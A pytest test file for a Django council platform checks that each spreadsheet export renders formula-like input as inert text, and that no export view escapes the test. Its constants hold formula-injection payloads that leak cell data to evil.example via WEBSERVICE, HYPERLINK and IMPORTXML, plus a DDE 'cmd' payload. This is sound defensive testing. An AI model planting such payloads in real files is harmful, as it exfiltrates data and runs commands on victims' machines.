"""Every spreadsheet the platform offers, downloaded with text that looks
like a formula planted where people type it (a member's name and job title,
a sector's name, a comment, a username tried at the login page): each cell
comes back as text, never as a live formula, and the planted text is there
to read. A last test finds every view that sends a workbook, so that a new
export cannot be left out of this list. Outside the apps because it needs
all of them."""

from __future__ import annotations

import ast
import datetime as dt
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from django.urls import reverse
from django.utils import timezone

from xieshang.consultations.models import ArticleComment, DraftArticle, DraftRegulation
from xieshang.consultations.tests.factories import ConsultationFactory
from xieshang.core.audit import audit
from xieshang.core.exports import XLSX_TYPE
from xieshang.core.tests.workbooks import texts, unsafe_cells
from xieshang.councils.models import CouncilRole, Member, Role
from xieshang.councils.tests.factories import MemberFactory, SectorFactory
from xieshang.duty.actions import open_assessment
from xieshang.meetings.tests.factories import InvitationFactory, MeetingFactory
from xieshang.opinions.tests.factories import OpinionReportFactory
from xieshang.proposals.states import ProposalStatus
from xieshang.proposals.tests.factories import ProposalFactory
from xieshang.surveys.actions.questions import QuestionSpec
from xieshang.surveys.actions.responses import Respondent, submit_response
from xieshang.surveys.states import QuestionKind
from xieshang.surveys.tests.factories import open_survey_of

pytestmark = pytest.mark.django_db

SECTOR = '=HYPERLINK("http://evil.example/?d="&A2,"界别")'
NAME = "@SUM(1+1)委员"
TITLE = '=WEBSERVICE("http://evil.example/?d="&ENCODEURL(E2))'
BODY = "+推荐单位"
LEADER_TITLE = "-1+主席"
COMMENT = '=IMPORTXML("http://evil.example/?c="&A2,"//a")'
CATEGORY = "=1+1类"
USERNAME = "=cmd|' /C calc'!A0"
YEAR = 2026


def member_in_a_hostile_sector(cast: Any) -> Member:
    sector = SectorFactory(council=cast.city, name=SECTOR)
    return MemberFactory(
        council=cast.city,
        term=cast.term,
        full_name=NAME,
        sector=sector,
        employer_title=TITLE,
        recommending_body=BODY,
    )


def in_city(name: str, **kwargs: Any) -> str:
    return reverse(name, kwargs={"council_slug": "city", **kwargs})


@dataclass(frozen=True)
class Export:
    """One download: the view that sends it, who fetches it, how to plant
    hostile text for it, and which planted texts it shows."""

    view: str
    persona: str
    plant: Callable[[Any], str]
    shows: tuple[str, ...]


def _roster(cast: Any) -> str:
    member_in_a_hostile_sector(cast)
    return in_city("councils:member_export")


def _template(cast: Any) -> str:
    SectorFactory(council=cast.city, name=SECTOR)
    return in_city("councils:member_template")


def _audit_log(cast: Any) -> str:
    # A username typed at the login page lands in the log as it was typed.
    audit("login_failed", council=cast.city, outcome="failed", data={"username": USERNAME})
    return in_city("councils:audit_log_export")


def _attendance(cast: Any) -> str:
    meeting = MeetingFactory(council=cast.city, created_by=cast.staff)
    InvitationFactory(meeting=meeting, member=member_in_a_hostile_sector(cast))
    return in_city("meetings:sheet_xlsx", pk=meeting.pk)


def _assessment(cast: Any) -> str:
    member_in_a_hostile_sector(cast)
    open_assessment(actor=cast.actor("staff"), year=YEAR)
    return in_city("duty:assessment_export", year=YEAR)


def _liaison(cast: Any) -> str:
    CouncilRole.objects.filter(user=cast.leader, council=cast.city, role=Role.LEADER).update(
        title=LEADER_TITLE
    )
    return in_city("liaison:statistics_export") + f"?year={YEAR}"


def _opinions(cast: Any) -> str:
    OpinionReportFactory(council=cast.city, member=member_in_a_hostile_sector(cast), filed_by=cast.staff)
    return in_city("opinions:statistics_export") + f"?year={YEAR}"


def _proposals(by: str) -> Callable[[Any], str]:
    def plant(cast: Any) -> str:
        proposal = ProposalFactory(
            council=cast.city, lead_proposer=member_in_a_hostile_sector(cast), status=ProposalStatus.SUBMITTED
        )
        proposal.category.name = CATEGORY
        proposal.category.save()
        return in_city("proposals:statistics_export") + f"?year={proposal.session.year}&by={by}"

    return plant


def _comments(cast: Any) -> str:
    consultation = ConsultationFactory(council=cast.city, created_by=cast.staff)
    draft = DraftRegulation.objects.create(
        council=cast.city,
        consultation=consultation,
        title="条例草案",
        text="第一条 总则",
        created_by=cast.staff,
    )
    article = DraftArticle.objects.create(
        council=cast.city, draft=draft, number=1, label="第一条", text="总则"
    )
    ArticleComment.objects.create(council=cast.city, article=article, author_name="王委员", text=COMMENT)
    return in_city("consultations:draft_export", pk=draft.pk, fmt="xlsx")


def _survey_answers(cast: Any) -> str:
    now = timezone.now()
    staff = cast.actor("staff")
    specs = (
        QuestionSpec(kind=QuestionKind.SINGLE, text=BODY, options=[CATEGORY, "否"], has_other=True),
        QuestionSpec(kind=QuestionKind.LONG_TEXT, text="意见"),
    )
    survey = open_survey_of(
        staff, specs, opens_at=now - dt.timedelta(days=1), closes_at=now + dt.timedelta(days=9)
    )
    choice, text = survey.questions.order_by("position")
    answers = {str(choice.pk): {"other": COMMENT}, str(text.pk): TITLE}
    submit_response(survey, respondent=Respondent.of_mobile(survey, "13800000000"), answers=answers)
    answers = {str(choice.pk): {"option": choice.options.first().pk}, str(text.pk): "好"}
    submit_response(survey, respondent=Respondent.of_mobile(survey, "13800000001"), answers=answers)
    return in_city("surveys:answers_xlsx", pk=survey.pk)


EXPORTS = {
    "roster": Export(
        "councils/views/members.py:member_export", "admin", _roster, (NAME, TITLE, SECTOR, BODY)
    ),
    "roster-template": Export("councils/views/members.py:member_template", "admin", _template, (SECTOR,)),
    "audit-log": Export("councils/views/audit.py:audit_log_export", "admin", _audit_log, (USERNAME,)),
    "attendance": Export("meetings/views/sheets.py:sheet_xlsx", "staff", _attendance, (NAME, SECTOR)),
    "assessment": Export("duty/views.py:assessment_export", "staff", _assessment, (NAME, SECTOR, BODY)),
    "liaison": Export("liaison/views/statistics.py:statistics_export", "staff", _liaison, (LEADER_TITLE,)),
    "opinions": Export("opinions/views/statistics.py:statistics_export", "staff", _opinions, (NAME, SECTOR)),
    "proposals": Export("proposals/views/stats.py:export", "staff", _proposals("sector"), (SECTOR,)),
    "proposal-topics": Export(
        "proposals/views/stats.py:_trend_export", "staff", _proposals("trend"), (CATEGORY,)
    ),
    "comments": Export("consultations/views/legislative.py:draft_export", "staff", _comments, (COMMENT,)),
    "survey-answers": Export(
        "surveys/views/results.py:answers_xlsx", "staff", _survey_answers, (TITLE, CATEGORY)
    ),
}


@pytest.mark.parametrize("export", EXPORTS.values(), ids=EXPORTS.keys())
def test_every_export_writes_text_that_looks_like_a_formula_as_text(cast, clients, export):
    response = clients[export.persona].get(export.plant(cast))
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"] == XLSX_TYPE
    assert set(export.shows) <= texts(response.content)
    assert unsafe_cells(response.content) == []


SENDERS = {"xlsx_response", "xlsx_download"}


def _views_sending_workbooks() -> set[str]:
    apps = Path(__file__).resolve().parents[2] / "xieshang"
    found = set()
    for path in apps.rglob("*.py"):
        if "tests" in path.parts:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.FunctionDef) and any(
                isinstance(call, ast.Call) and getattr(call.func, "id", "") in SENDERS
                for call in ast.walk(node)
            ):
                found.add(f"{path.relative_to(apps).as_posix()}:{node.name}")
    return found


def test_the_list_above_holds_every_view_that_sends_a_workbook():
    assert _views_sending_workbooks() - {"core/exports.py:xlsx_response"} == {
        e.view for e in EXPORTS.values()
    }
